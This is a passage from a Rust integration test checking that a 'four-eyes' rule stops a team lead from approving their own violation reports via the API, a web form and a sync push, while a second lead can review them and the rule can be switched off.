            &format!("/api/v1/violations/{named}"),
            &serde_json::json!({ "officer_ids": [hh_id] }),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_problem(review(&app, &lead, &named, "approved").await, 403, None).await;

    // The lead page's approve form goes through the same write path.
    let page = page_login(&app, "teamleider").await;
    let res = page
        .post(
            &app,
            &format!("/briefing/review/{own}"),
            &format!("decision=approved&csrf={}", page.csrf),
            &[],
        )
        .await;
    let problem = assert_problem(res, 403, None).await;
    assert!(problem["detail"].as_str().unwrap().contains("four-eyes"));

    // So does the sync push of the lead's own device.
    let pull = app
        .get_json(&lead, "/api/v1/sync/pull?last_pulled_at=0")
        .await;
    let mut row = thor_tests::pulled_rows(&pull, "violations")
        .into_iter()
        .find(|r| r["id"] == own.as_str())
        .unwrap();
    row["status"] = serde_json::json!("approved");
    let cursor = pull["timestamp"].as_i64().unwrap();
    let res = app
        .post(
            &lead,
            &format!("/api/v1/sync/push?last_pulled_at={cursor}"),
            &serde_json::json!({ "changes": { "violations": { "created": [], "updated": [row], "deleted": [] } } }),
        )
        .send()
        .await
        .unwrap();
    let push: serde_json::Value = res.json().await.unwrap();
    assert_eq!(push["rejected"][0]["id"], own.as_str(), "{push}");
    assert!(
        push["rejected"][0]["detail"]
            .as_str()
            .unwrap()
            .contains("four-eyes"),
        "{push}"
    );
    let v = app
        .get_json(&lead, &format!("/api/v1/violations/{own}"))
        .await;
    assert_eq!(v["status"], "submitted");

    // Another teamleider of the team reviews them.
    assert_eq!(review(&app, &lead2, &own, "approved").await.status(), 200);
    assert_eq!(review(&app, &lead2, &named, "rejected").await.status(), 200);
    app.stop().await;

    // Switched off: a single lead reviews their own reports.
    let app = TestApp::spawn_with(b, |c| c.four_eyes = false).await;
    app.demo_accounts().await;
    let lead = app.login("teamleider", "pc").await;
    let own = submitted(&app, &lead, &[]).await;
    assert_eq!(review(&app, &lead, &own, "approved").await.status(), 200);
    app.stop().await;
}

both!(a_lead_does_not_review_their_own_report);
